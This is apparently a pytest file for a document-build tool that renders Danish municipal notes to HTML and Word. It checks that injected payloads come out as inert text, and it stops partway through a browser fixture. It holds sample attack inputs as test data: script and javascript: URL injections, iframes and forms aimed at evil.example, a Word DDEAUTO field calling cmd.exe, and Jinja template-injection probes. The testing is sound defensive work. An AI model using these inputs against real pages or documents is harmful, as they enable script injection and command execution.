"""No active content: every cheat-sheet payload, in every text position, comes out as inert text.

Each payload of tests/payloads.py is put into every position a source has text in (a plain
field, a table cell, Markdown prose, a footnote, a heading, a code span, an attachment link),
in each shipped kind, and the source goes through the whole pipeline in memory. The HTML must
hold only the elements and attributes the templates write, no script, no event handler, no link
to anything but http, https, mailto or the page itself, and its policy must forbid scripts; the
Word file must hold no field, embedded document or external target a source put there. In both
the payload must be there for the reader, as text. Two payload-heavy pages are then opened in
Chromium with their policy in force: nothing may try to run.

PAYLOAD_COUNT payloads times POSITION_COUNT positions gives PLACEMENTS, each checked in HTML and
in Word (OUTPUT_CHECKS); the README's reliability section quotes these figures.
"""

from __future__ import annotations

import copy
import csv
import functools
import html
import io
import json
import re
import subprocess
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Literal

import pytest
import yaml
from click.testing import CliRunner
from lxml import etree

from notebuild.cli import main
from notebuild.pipeline import check_file, compose, render_outputs
from notebuild.round.activities import csv_text
from notebuild.writers.html import environment

from .conftest import NOTES, ROOT
from .html_text import html_text
from .payloads import PAYLOADS, Payload
from .test_browser import SCRIPT, _require_tools

BUDGET_NOTE, MEMO, AGREEMENT = "BI19", "memo-2024-06-17", "delaftale-2014"
BASES = (BUDGET_NOTE, MEMO, AGREEMENT)

# The template's own policy, exactly: no script-src, so scripts fall back to default-src 'none'.
POLICY = (
    "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; "
    "form-action 'none'"
)

# --- where a payload goes ---------------------------------------------------------------------

Mode = Literal["text", "markdown", "code", "link"]


@dataclass(frozen=True, slots=True)
class Position:
    """A place in a source that holds text: `mode` says what a reader must see there.

    "text" and "code" show the payload as typed, "markdown" as Markdown reads it, "link" puts
    the payload in an address and shows only the marker (the attachment's title).
    """

    code: str
    base: str
    where: str
    mode: Mode


POSITIONS: tuple[Position, ...] = (
    Position("B01", BUDGET_NOTE, "titel", "text"),
    Position("B02", BUDGET_NOTE, "center (afsenderblokken)", "text"),
    Position("B03", BUDGET_NOTE, "baggrund: afsnit", "markdown"),
    Position("B04", BUDGET_NOTE, "indhold: fodnote", "markdown"),
    Position("B05", BUDGET_NOTE, "effekt.tekst: punktliste", "markdown"),
    Position("B06", BUDGET_NOTE, "økonomi.tekst: citat", "markdown"),
    Position("B07", BUDGET_NOTE, "risikovurdering: overskrift", "markdown"),
    Position("B08", BUDGET_NOTE, "effekt.tabel: målgruppe", "text"),
    Position("B09", BUDGET_NOTE, "effekt.tabel: indsats", "text"),
    Position("B10", BUDGET_NOTE, "effekt.tabel: målsætning", "text"),
    Position("B11", BUDGET_NOTE, "effekt.tabel: opfølgning", "text"),
    Position("B12", BUDGET_NOTE, "aktivitet: navn (Tabel 2)", "text"),
    Position("B13", BUDGET_NOTE, "aktivitet: bevillingsnavn", "text"),
    Position("B14", BUDGET_NOTE, "tidligere afsatte midler: navn", "text"),
    Position("B15", BUDGET_NOTE, "adresse (bydelsskemaet)", "text"),
    Position("M01", MEMO, "titel (skabelonen {{ titel }})", "text"),
    Position("M02", MEMO, "mødested (oplysningerne)", "text"),
    Position("M03", MEMO, "bilag: titel", "text"),
    Position("M04", MEMO, "bilag: link", "link"),
    Position("M05", MEMO, "resumé: afsnit", "markdown"),
    Position("M06", MEMO, "løsning: fodnote", "markdown"),
    Position("M07", MEMO, "indstilling: punkt", "text"),
    Position("M08", MEMO, "afsnit: overskrift", "text"),
    Position("M09", MEMO, "afsnit: kode i teksten", "code"),
    Position("M10", MEMO, "økonomitabel: titel", "text"),
    Position("M11", MEMO, "økonomitabel: forspalte", "text"),
    Position("M12", MEMO, "økonomitabel: kolonne", "text"),
    Position("M13", MEMO, "økonomitabel: gruppe", "text"),
    Position("M14", MEMO, "økonomitabel: række", "text"),
    Position("M15", MEMO, "økonomitabel: gruppens i_alt_navn", "text"),
    Position("M16", MEMO, "økonomitabel: totalrækkens navn", "text"),
    Position("M17", MEMO, "underskrift", "text"),
    Position("M18", MEMO, "beslutning: kodeblok", "code"),
    Position("M19", MEMO, "protokolbemærkning: tekst", "markdown"),
    Position("M20", MEMO, "politisk handlerum: nummereret liste", "markdown"),
    Position("M21", MEMO, "videre proces: overskrift", "markdown"),
    Position("D01", AGREEMENT, "tema (skabelonen DELAFTALE – {{ tema }})", "text"),
    Position("D02", AGREEMENT, "reference (id og oplysninger)", "text"),
    Position("D03", AGREEMENT, "underskriver: navn", "text"),
    Position("D04", AGREEMENT, "udfordringer: afsnit", "markdown"),
    Position("D05", AGREEMENT, "løsning: overskrift", "text"),
    Position("D06", AGREEMENT, "løsning: tekst", "markdown"),
    Position("D07", AGREEMENT, "finansiering: punktliste", "markdown"),
    Position("D08", AGREEMENT, "effekter: citat", "markdown"),
    Position("D09", AGREEMENT, "løsninger efter: kode i teksten", "code"),
)

# The figures the README's reliability section quotes.
PAYLOAD_COUNT = len(PAYLOADS)
POSITION_COUNT = len(POSITIONS)
PLACEMENTS = PAYLOAD_COUNT * POSITION_COUNT  # each checked in HTML and in Word
OUTPUT_CHECKS = 2 * PLACEMENTS

Items = list[tuple[int, Payload]]


def position(code: str) -> Position:
    (found,) = [p for p in POSITIONS if p.code == code]
    return found


def mark(code: str, index: int) -> str:
    """Return the marker that names one placement, e.g. "«B03·0»"."""
    return f"«{code}·{index}»"


def _text(code: str, items: Items) -> str:
    return " ".join(f"{mark(code, i)} {p.text}" for i, p in items)


def _each(code: str, items: Items, form: str) -> list[str]:
    return [form.format(mark=mark(code, i), text=p.text) for i, p in items]


def _paragraphs(code: str, items: Items, form: str = "{mark}\n\n{text}") -> str:
    # The marker stands in its own paragraph, so the payload opens a line, where Markdown
    # block syntax (raw HTML blocks, headings) would act.
    return "\n\n".join(_each(code, items, form)) + "\n"


def _footnotes(code: str, items: Items) -> str:
    refs = " ".join(f"Kilde[^{code}x{i}]." for i, _ in items)
    notes = "\n\n".join(f"[^{code}x{i}]: {mark(code, i)} {p.text}" for i, p in items)
    return f"\n\n{refs}\n\n{notes}\n"


def _budget_note(data: dict[str, Any], items: Items) -> None:
    data["titel"] = _text("B01", items)
    data["center"] = _text("B02", items)
    data["baggrund"] = _paragraphs("B03", items)
    data["indhold"] += _footnotes("B04", items)
    data["effekt"]["tekst"] = _paragraphs("B05", items, "- {mark} {text}")
    data["økonomi"]["tekst"] = _paragraphs("B06", items, "> {mark} {text}")
    data["risikovurdering"] = _paragraphs("B07", items, "## {mark} {text}")
    row = data["effekt"]["tabel"][0]
    for code, key in zip(
        ("B08", "B09", "B10", "B11"),
        ("målgruppe", "indsats", "målsætning", "opfølgning"),
        strict=True,
    ):
        row[key] = _text(code, items)
    data["økonomi"]["aktiviteter"][0]["navn"] = _text("B12", items)
    data["økonomi"]["aktiviteter"][0]["bevillingsnavn"] = _text("B13", items)
    data["tidligere_afsatte_midler"]["bevillinger"][0]["navn"] = _text("B14", items)
    data["adresse"] = _text("B15", items)


def _memo(data: dict[str, Any], items: Items) -> None:
    data["titel"] = _text("M01", items)
    data["mødested"] = _text("M02", items)
    data["bilag"] = [{"titel": t} for t in _each("M03", items, "{mark} {text}")] + [
        {"titel": mark("M04", i), "link": p.text} for i, p in items
    ]
    data["resumé"] = _paragraphs("M05", items)
    data["løsning"] += _footnotes("M06", items)
    data["indstilling"]["punkter"] += _each("M07", items, "at {mark} {text} ende")
    data["afsnit"] = [
        {"overskrift": heading, "tekst": f"Koden er `{code}`."}
        for heading, code in zip(
            _each("M08", items, "{mark} {text}"), _each("M09", items, "{mark} {text}"), strict=True
        )
    ]
    data["økonomi"] = [
        "Tabellen viser forsøgets økonomi.",
        {
            "tabel": {
                "titel": _text("M10", items),
                "enhed": "mio. kr.",
                "forspalte": _text("M11", items),
                "kolonner": [_text("M12", items)],
                "rækker": [
                    {
                        "gruppe": _text("M13", items),
                        "rækker": [{"navn": _text("M14", items), "beløb": "1,5"}],
                        "i_alt_navn": _text("M15", items),
                        "i_alt": "1,5",
                    }
                ],
                "i_alt": {"navn": _text("M16", items), "beløb": "1,5"},
            }
        },
    ]
    data["underskrift"] = _each("M17", items, "{mark} {text}")
    data["beslutning"] = {
        "tekst": "\n\n".join(_each("M18", items, "```\n{mark} {text}\n```")) + "\n",
        "protokolbemærkninger": [{"parti": "A", "tekst": _paragraphs("M19", items)}],
    }
    data["politisk_handlerum"] = _paragraphs("M20", items, "1. {mark} {text}")
    data["videre_proces"] = _paragraphs("M21", items, "### {mark} {text}")


def _agreement(data: dict[str, Any], items: Items) -> None:
    data["tema"] = _text("D01", items)
    data["reference"] = _text("D02", items)
    data["underskrivere"] += [
        {"navn": name, "parti": "A"} for name in _each("D03", items, "{mark} {text}")
    ]
    data["udfordringer"] = _paragraphs("D04", items)
    data["løsninger"] += [
        {"overskrift": heading, "tekst": text}
        for heading, text in zip(
            _each("D05", items, "{mark} {text}"),
            _each("D06", items, "{mark}\n\n{text}"),
            strict=True,
        )
    ]
    data["finansiering"][0] = _paragraphs("D07", items, "- {mark} {text}")
    data["effekter"] = _paragraphs("D08", items, "> {mark} {text}")
    data["løsninger_efter"] = " ".join(_each("D09", items, "Kode: `{mark} {text}`."))


BUILDERS: dict[str, Callable[[dict[str, Any], Items], None]] = {
    BUDGET_NOTE: _budget_note,
    MEMO: _memo,
    AGREEMENT: _agreement,
}


_Dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)


@functools.cache
def _shipped(base: str) -> dict[str, Any]:
    # BaseLoader keeps every scalar as text, so amounts survive the round trip as written.
    return yaml.load((NOTES / f"{base}.yaml").read_text("utf-8"), Loader=yaml.BaseLoader)


def source(base: str, payloads: list[Payload]) -> str:
    """Return the shipped note `base` as YAML with every payload in each of its positions."""
    data = copy.deepcopy(_shipped(base))
    BUILDERS[base](data, list(enumerate(payloads)))
    return yaml.dump(data, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=1 << 20)


# Word keeps a title (and the id, as keywords) in the file's properties, at most 255 characters
# (python-docx refuses more): each source holds as many payloads as fit there, in every position.
# A finding in a source is reported for each payload it holds, naming them all.
TITLE_ROOM = 255 - len("Delaftale ")


def _groups(payloads: tuple[Payload, ...]) -> tuple[tuple[Payload, ...], ...]:
    groups: list[list[Payload]] = [[]]
    for payload in payloads:
        if len(_text("D02", list(enumerate([*groups[-1], payload])))) > TITLE_ROOM:
            groups.append([])
        groups[-1].append(payload)
    return tuple(tuple(group) for group in groups)


GROUPS = _groups(PAYLOADS)
GROUP_OF = {
    payload: (number, group.index(payload))
    for number, group in enumerate(GROUPS)
    for payload in group
}


@dataclass(frozen=True)
class Rendered:
    html: str
    docx: bytes


def render(folder: Path, base: str, payloads: list[Payload], formats=("html", "docx")) -> Rendered:
    """Write the source into `folder`, check it (it must be clean) and render it."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{base}.yaml"
    path.write_text(source(base, payloads), "utf-8")
    checked = check_file(path)
    errors = [f"{p.code}: {p.message}" for p in checked.problems if p.blocks_final]
    assert not errors, errors
    outputs = render_outputs(compose(checked), formats)
    return Rendered(outputs["html"].decode("utf-8"), outputs.get("docx", b""))


@dataclass(frozen=True)
class Findings:
    """What the checks found in one source's HTML and Word, worked out once per source."""

    page: str
    html_problems: list[str]
    word_problems: list[str]
    html_text: str
    word_text: str
    html_links: dict[str, str]
    word_links: dict[str, str]


@pytest.fixture(scope="module")
def findings(tmp_path_factory, baseline) -> Callable[[str, Payload], tuple[Findings, int]]:
    """Return the findings in the source of `base` that holds a payload, and its index there."""
    root = tmp_path_factory.mktemp("payloads")

    @functools.cache
    def group(base: str, number: int) -> Findings:
        result = render(root / f"group-{number}", base, list(GROUPS[number]))
        return Findings(
            result.html,
            html_problems(result.html),
            word_problems(result.docx, baseline[base].docx),
            html_text(result.html),
            word_text(result.docx),
            html_links(result.html),
            word_links(result.docx),
        )

    def one(base: str, payload: Payload) -> tuple[Findings, int]:
        number, index = GROUP_OF[payload]
        return group(base, number), index

    return one


@pytest.fixture(scope="module")
def baseline() -> dict[str, Rendered]:
    """Each shipped note as it renders without payloads: the template's own content."""
    result = {}
    for base in BASES:
        checked = check_file(NOTES / f"{base}.yaml")
        outputs = render_outputs(compose(checked), ("html", "docx"))
        result[base] = Rendered(outputs["html"].decode("utf-8"), outputs["docx"])
    return result


def normalise(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def expected(position: Position, payload: Payload, index: int = 0) -> str:
    """Return the text a reader must see at `position`: the marker and what follows it."""
    shown = {
        "text": payload.text,
        "code": payload.text,
        "markdown": payload.markdown_text,
        "link": "",
    }[position.mode]
    return normalise(f"{mark(position.code, index)} {shown}")


def missing_text(text: str, base: str, items: Items, codes: set[str] | None = None) -> list[str]:
    """Return each placement in `base` (at the positions `codes`, default all) of the
    (index, payload) `items` whose text is not in `text`."""
    found = normalise(text)
    return [
        f"{position.code} {position.where}: {expected(position, payload, index)!r}"
        for position in POSITIONS
        if position.base == base and (codes is None or position.code in codes)
        for index, payload in items
        if expected(position, payload, index) not in found
    ]


# --- what an HTML page may hold ---------------------------------------------------------------


# Exactly what the templates write; anything else came from a source.
def _words(text: str) -> frozenset[str]:
    return frozenset(text.split())


ALLOWED_TAGS = _words(
    "html head meta title style body header main section div p span br strong em a sup "
    "h1 h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote details summary "
    "table caption colgroup col thead tbody tr th td s mark"
)
ALLOWED_ATTRIBUTES = _words(
    "lang charset http-equiv content name class id href style role tabindex scope colspan "
    "start value open aria-label aria-labelledby aria-describedby data-problem"
)
FORBIDDEN_TAGS = _words(
    "script iframe frame frameset object embed applet base form button input textarea select "
    "img svg math video audio source link noscript template portal"
)
URL_ATTRIBUTES = _words(
    "href src action formaction background data poster dynsrc lowsrc srcdoc srcset xlink:href "
    "codebase cite longdesc usemap manifest ping icon profile"
)
SAFE_URL = re.compile(r"(https?://|mailto:|#)", re.IGNORECASE)
COLUMN_WIDTH = re.compile(r"width: \d+(\.\d+)?%")
META = [
    {"charset": "utf-8"},
    {"http-equiv": "Content-Security-Policy", "content": POLICY},
    {"name": "viewport", "content": "width=device-width, initial-scale=1"},
    {"name": "generator", "content": "notebuild"},
]


class _Elements(HTMLParser):
    """Collect every element with its attributes (entities decoded), and <style> contents."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._in_style = tag == "style"
        if self._in_style:
            self.styles.append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles[-1] += data


def html_problems(page: str) -> list[str]:
    """Return everything active in an HTML page, in words; [] for a page of inert text."""
    problems = []
    # Parser-independent: a '<' that opens a tag in the raw bytes must open one of ours.
    for name in re.findall(r"</?([A-Za-z][^\s/>]*)", page):
        if name.lower() not in ALLOWED_TAGS:
            problems.append(f"tag <{name}> in the page source")
    parser = _Elements()
    parser.feed(page)
    parser.close()
    for tag, attrs in parser.elements:
        if tag in FORBIDDEN_TAGS or tag not in ALLOWED_TAGS:
            problems.append(f"element <{tag}> {attrs}")
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"event handler <{tag} {name}={value!r}>")
            elif name in URL_ATTRIBUTES and not SAFE_URL.match(value):
                problems.append(f"unsafe address <{tag} {name}={value!r}>")
            elif name == "style" and not (tag == "col" and COLUMN_WIDTH.fullmatch(value)):
                problems.append(f"style attribute <{tag} style={value!r}>")
            elif name not in ALLOWED_ATTRIBUTES:
                problems.append(f"attribute <{tag} {name}={value!r}>")
    metas = [attrs for tag, attrs in parser.elements if tag == "meta"]
    if metas != META:
        problems.append(f"meta elements {metas}")
    house = environment().globals["stylesheet"]
    remarks = environment().globals["remarks_stylesheet"]  # a page that lists problems
    if parser.styles not in ([f"\n{house}\n"], [f"\n{house}\n{remarks}\n"]):
        problems.append("a <style> other than the house stylesheet")
    head = [tag for tag, _ in parser.elements[:4]]
    if head != ["html", "head", "meta", "meta"] or parser.elements[3][1] != META[1]:
        problems.append(f"the policy is not the first thing after the charset: {head}")
    return problems


def html_links(page: str) -> dict[str, str]:
    """Return the address of each link whose content is plain text, by that text."""
    found = re.findall(r'<a href="([^"]*)">([^<]*)</a>', page)
    return {html.unescape(text): html.unescape(href) for href, text in found}


def policy_directives(page: str) -> dict[str, list[str]]:
    parser = _Elements()
    parser.feed(page)
    (policy,) = [a["content"] for t, a in parser.elements if a.get("http-equiv")]
    return {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}


# --- what a Word file may hold ----------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HYPERLINK = f"{R}/hyperlink"
# Parts that run, fetch or embed something: none may come from a source.
FORBIDDEN_ELEMENTS = _words(
    "altChunk object control subDoc embedObject embedTrueTypeFont pict objectEmbed"
)
FORBIDDEN_RELATIONSHIPS = frozenset(
    f"{R}/{name}"
    for name in _words("aFChunk oleObject package subDocument attachedTemplate frame control")
)
# A hyperlink in a footnote or the header gives that part its own relationships.
RELATIONSHIPS_PART = re.compile(r"word/_rels/\w+\.xml\.rels")
SEQUENCE_FIELD = re.compile(r" SEQ Tabel \\\* ARABIC \\r \d+ ")


def _w(tag: str) -> str:
    return f"{{{W}}}{tag}"


def _xml_parts(archive: zipfile.ZipFile) -> dict[str, etree._Element]:
    return {
        name: etree.fromstring(archive.read(name))
        for name in archive.namelist()
        if name.endswith((".xml", ".rels"))
    }


def _fields(parts: dict[str, etree._Element]) -> tuple[Counter, list[str]]:
    """Return the complex fields' instructions (counted) and the simple fields'."""
    complex_fields: Counter = Counter()
    simple = []
    for name, root in parts.items():
        for element in root.iter(_w("instrText")):
            complex_fields[(name, element.text)] += 1
        simple += [e.get(_w("instr")) for e in root.iter(_w("fldSimple"))]
    return complex_fields, simple


COMMENTS = "word/comments.xml"
COMMENTS_TYPE = (
    b'<Override PartName="/word/comments.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>'
)


def word_problems(docx: bytes, baseline: bytes) -> list[str]:
    """Return what in a .docx runs, fetches or embeds beyond the template's own; [] if nothing."""
    problems = []
    archive = zipfile.ZipFile(io.BytesIO(docx))
    base = zipfile.ZipFile(io.BytesIO(baseline))
    names, base_names = set(archive.namelist()), set(base.namelist())
    # A draft's problems are Word comments: word/comments.xml (checked below as every part).
    added = [n for n in names - base_names if not RELATIONSHIPS_PART.fullmatch(n) and n != COMMENTS]
    if added or base_names - names:
        problems.append(f"parts {sorted(added)} added, {sorted(base_names - names)} missing")
    types, base_types = (a.read("[Content_Types].xml") for a in (archive, base))
    if types.replace(COMMENTS_TYPE, b"") != base_types.replace(COMMENTS_TYPE, b""):
        problems.append("content types differ from the template's")
    parts = _xml_parts(archive)
    safe_links: dict[str, set[str]] = {}
    for name, root in parts.items():
        if not name.endswith(".rels"):
            for element in root.iter():
                if isinstance(element.tag, str) and etree.QName(element).localname in (
                    FORBIDDEN_ELEMENTS
                ):
                    problems.append(f"{name}: <{etree.QName(element).localname}>")
            continue
        owner = name.replace("_rels/", "").removesuffix(".rels")
        for rel in root:
            kind, target = rel.get("Type"), rel.get("Target", "")
            if kind in FORBIDDEN_RELATIONSHIPS:
                problems.append(f"{name}: relationship {kind}")
            if rel.get("TargetMode") == "External":
                if kind != HYPERLINK or not SAFE_URL.match(target) or target.startswith("#"):
                    problems.append(f"{name}: external target {kind} {target!r}")
                else:
                    safe_links.setdefault(owner, set()).add(rel.get("Id"))
    for name, root in parts.items():
        for link in root.iter(_w("hyperlink")):
            if link.get(f"{{{R}}}id") not in safe_links.get(name, set()):
                problems.append(f"{name}: hyperlink without a safe external target")
    complex_fields, simple = _fields(parts)
    base_complex, base_simple = _fields(_xml_parts(base))
    if complex_fields != base_complex:
        problems.append(f"fields {dict(complex_fields - base_complex)} beyond the template's")
    for instruction in simple:
        if instruction not in base_simple and not SEQUENCE_FIELD.fullmatch(instruction):
            problems.append(f"simple field {instruction!r}")
    return problems


def word_links(docx: bytes) -> dict[str, str]:
    """Return the target of each hyperlink in the body, by the link's text."""
    archive = zipfile.ZipFile(io.BytesIO(docx))
    rels = etree.fromstring(archive.read("word/_rels/document.xml.rels"))
    targets = {rel.get("Id"): rel.get("Target") for rel in rels}
    body = etree.fromstring(archive.read("word/document.xml"))
    return {
        "".join(t.text or "" for t in link.iter(_w("t"))): targets[link.get(f"{{{R}}}id")]
        for link in body.iter(_w("hyperlink"))
    }


def word_text(docx: bytes) -> str:
    """Return the text of body, footnotes and page header: w:t as typed, tabs and breaks as
    spaces, one space between paragraphs."""
    archive = zipfile.ZipFile(io.BytesIO(docx))
    paragraphs = []
    for name in archive.namelist():
        if not re.fullmatch(r"word/(document|footnotes|header\d*)\.xml", name):
            continue
        for paragraph in etree.fromstring(archive.read(name)).iter(_w("p")):
            pieces = []
            for element in paragraph.iter(_w("t"), _w("tab"), _w("br"), _w("cr")):
                pieces.append(element.text or "" if element.tag == _w("t") else " ")
            paragraphs.append("".join(pieces))
    return " ".join(paragraphs)


# --- the payload list -------------------------------------------------------------------------


def test_payloads_are_many_distinct_and_every_position_is_used():
    assert PAYLOAD_COUNT >= 30
    assert len({p.name for p in PAYLOADS}) == PAYLOAD_COUNT
    assert len({p.text for p in PAYLOADS}) == PAYLOAD_COUNT
    assert len({p.code for p in POSITIONS}) == POSITION_COUNT
    assert {p.base for p in POSITIONS} == set(BASES)
    assert {p.mode for p in POSITIONS} == {"text", "markdown", "code", "link"}
    # Every payload is one line without the control characters another test is about.
    assert not [p.name for p in PAYLOADS if re.search(r"[\x00-\x08\x0a-\x1f\x7f]", p.text)]


# --- each payload, each output ----------------------------------------------------------------


def _source_of(base: str, payload: Payload) -> str:
    """Name the source a finding is in: the kind and the payloads it holds with `payload`."""
    return f"{base} holding {[p.name for p in GROUPS[GROUP_OF[payload][0]]]}"


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: p.name)
def test_payload_is_inert_text_in_html(payload, findings):
    for base in BASES:
        found, index = findings(base, payload)
        assert found.html_problems == [], _source_of(base, payload)
        assert missing_text(found.html_text, base, [(index, payload)]) == [], base


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: p.name)
def test_payload_is_plain_text_in_word(payload, findings):
    for base in BASES:
        found, index = findings(base, payload)
        assert found.word_problems == [], _source_of(base, payload)
        assert missing_text(found.word_text, base, [(index, payload)]) == [], base


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: p.name)
def test_attachment_links_only_to_http_https_or_mailto(payload, findings):
    # The attachment's title is its marker; the payload is its address.
    found, index = findings(MEMO, payload)
    title, address = mark("M04", index), payload.text.strip()
    safe = address.lower().startswith(("http://", "https://", "mailto:"))
    assert found.html_links.get(title) == (address if safe else None)
    assert found.word_links.get(title) == (address if safe else None)
    assert title in found.html_text and title in found.word_text


def test_policy_is_exactly_the_templates_and_forbids_scripts(findings):
    page = findings(MEMO, PAYLOADS[0])[0].page
    assert re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page) == [POLICY]
    directives = policy_directives(page)
    assert directives["default-src"] == ["'none'"]
    # No script-src and no script-src-elem/-attr: every script falls back to 'none'.
    assert not [d for d in directives if d.startswith("script")]
    assert directives["base-uri"] == ["'none'"] and directives["form-action"] == ["'none'"]


def test_draft_lists_problems_quoting_payloads_as_text(tmp_path, baseline):
    # A draft's problem list quotes the source (a row's name); every payload at once.
    data = copy.deepcopy(_shipped(BUDGET_NOTE))
    items = list(enumerate(PAYLOADS))
    data["økonomi"]["aktiviteter"][0]["navn"] = _text("B12", items)
    data["økonomi"]["aktiviteter"][0]["i_alt"] = "721"  # the years sum to 720
    path = tmp_path / f"{BUDGET_NOTE}.yaml"
    path.write_text(yaml.dump(data, Dumper=_Dumper, allow_unicode=True, width=1 << 20), "utf-8")
    checked = check_file(path)
    assert [p.code for p in checked.problems] == ["total-mismatch"]
    document = compose(checked, draft=True)
    (listed,) = document.verification.problems
    outputs = render_outputs(document, ("html", "docx"))
    page = outputs["html"].decode("utf-8")
    assert html_problems(page) == []
    assert word_problems(outputs["docx"], baseline[BUDGET_NOTE].docx) == []
    shown = html_text(page)
    assert normalise(listed.line) in shown
    assert missing_text(shown, BUDGET_NOTE, items, codes={"B12"}) == []


# --- Jinja in a source is text --------------------------------------------------------------


def test_jinja_in_source_values_is_never_evaluated(tmp_path):
    # The kinds' texts are Jinja templates filled with the source's values; a value that looks
    # like a template is a value, printed as typed.
    path = tmp_path / f"{MEMO}.yaml"
    data = yaml.load((NOTES / f"{MEMO}.yaml").read_text("utf-8"), Loader=yaml.BaseLoader)
    data["titel"] = "Pris {{ 1111*7 }} kr. {% for x in range(3) %}<{{ x }}>{% endfor %}"
    data["mødested"] = "{{ self.__init__.__globals__ }} {{ udvalg.kode ~ 'XYZ' }}"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")
    checked = check_file(path)
    assert not [p for p in checked.problems if p.blocks_final]
    document = compose(checked)
    assert document.title == data["titel"]
    assert ("Mødested", data["mødested"]) in document.meta
    outputs = render_outputs(document, ("html", "docx"))
    for text in (html_text(outputs["html"].decode("utf-8")), word_text(outputs["docx"])):
        assert data["titel"] in text and data["mødested"] in text
        for evaluated in ("7777", "<0><1><2>", "BIUXYZ", "function"):
            assert evaluated not in text


# --- the checks above can fail ----------------------------------------------------------------


def test_html_check_finds_each_kind_of_active_content(baseline):
    page = baseline[BUDGET_NOTE].html
    assert html_problems(page) == []
    injected = {
        "<script>alert(1)</script>": "tag <script>",
        '<p onclick="alert(1)">x</p>': "event handler",
        '<a href="javascript:alert(1)">x</a>': "unsafe address",
        '<a href="jav&#x09;ascript:alert(1)">x</a>': "unsafe address",
        '<a href=" data:text/html,x">x</a>': "unsafe address",
        '<p style="width: expression(alert(1))">x</p>': "style attribute",
        '<col style="background: url(javascript:alert(1))">': "style attribute",
        '<iframe src="https://evil.example/"></iframe>': "tag <iframe>",
        '<base href="https://evil.example/">': "tag <base>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">': "meta elements",
        '<form action="https://evil.example/"><button formaction="x">x</button></form>': (
            "tag <form>"
        ),
        '<svg onload="alert(1)"></svg>': "tag <svg>",
        '<p data-x="1">x</p>': "attribute <p data-x",
    }
    for markup, finding in injected.items():
        problems = html_problems(page.replace("<main>", f"<main>{markup}", 1))
        assert any(finding in p for p in problems), (markup, problems)
    weaker = page.replace("default-src 'none'", "default-src 'self'", 1)
    assert any("meta elements" in p for p in html_problems(weaker))
    moved = page.replace("<style>", "<style>a{}", 1)
    assert "a <style> other than the house stylesheet" in html_problems(moved)


def _inject(docx: bytes, part: str, xml: str) -> bytes:
    """Return `docx` with `xml` put into `part`: a paragraph in the body, or a relationship."""
    at = b"<w:body>" if part == "word/document.xml" else b"</Relationships>"
    new = b"<w:body><w:p>%s</w:p>" if at == b"<w:body>" else b"%s</Relationships>"
    source = zipfile.ZipFile(io.BytesIO(docx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for entry in source.namelist():
            data = source.read(entry)
            if entry == part:
                assert data.count(at) == 1
                data = data.replace(at, new % xml.encode())
            target.writestr(entry, data)
    return out.getvalue()


def test_word_check_finds_fields_chunks_and_unsafe_targets(baseline):
    docx = baseline[MEMO].docx
    assert word_problems(docx, docx) == []
    body, rels = "word/document.xml", "word/_rels/document.xml.rels"
    run = "<w:r><w:t>x</w:t></w:r>"
    external = f'Type="{HYPERLINK}" TargetMode="External"'
    injected = [
        (body, f'<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe x ">{run}</w:fldSimple>', "simple"),
        (body, '<w:r><w:instrText> INCLUDETEXT "http://x" </w:instrText></w:r>', "fields"),
        (body, '<w:altChunk r:id="rId1"/>', "<altChunk>"),
        (body, f'<w:hyperlink r:id="rId2">{run}</w:hyperlink>', "hyperlink without"),
        (rels, f'<Relationship Id="rIdX" {external} Target="javascript:alert(1)"/>', "external"),
        (rels, f'<Relationship Id="rIdY" Type="{R}/aFChunk" Target="x.html"/>', "aFChunk"),
    ]
    for part, xml, finding in injected:
        problems = word_problems(_inject(docx, part, xml), docx)
        assert any(finding in p for p in problems), (xml, problems)


def test_text_check_misses_a_payload_that_is_not_there(findings):
    payload = PAYLOADS[0]
    page = findings(MEMO, payload)[0].page
    assert missing_text(html_text(page), MEMO, [(0, payload)]) == []
    gone = page.replace("«M07·0»", "«M07·9»")
    assert missing_text(html_text(gone), MEMO, [(0, payload)]) == [
        f"M07 indstilling: punkt: {expected(position('M07'), payload)!r}"
    ]


# --- in a real browser ------------------------------------------------------------------------

# Every payload at once, in every position, in two kinds, and a third page with a script put in
# on purpose: the policy must stop it, which shows the pages are opened with the policy in force.
HEAVY = (BUDGET_NOTE, MEMO)
CONTROL = "kontrol"


@pytest.fixture(scope="module")
def browser_results(tmp_path_factory) -> dict[str, dict]:
    node = _require_tools()
    tmp = tmp_path_factory.mktemp("browser-payloads")
    files = []
    for base in HEAVY:
        # HTML only: a Word title holds 255 characters, not all the payloads in a row.
        page = render(tmp / "src" / base, base, list(PAYLOADS), ("html",)).html
        assert html_problems(page) == []
        assert missing_text(html_text(page), base, list(enumerate(PAYLOADS))) == []
        path = tmp / f"{base}.html"
        path.write_text(page, "utf-8")
        files.append(path)
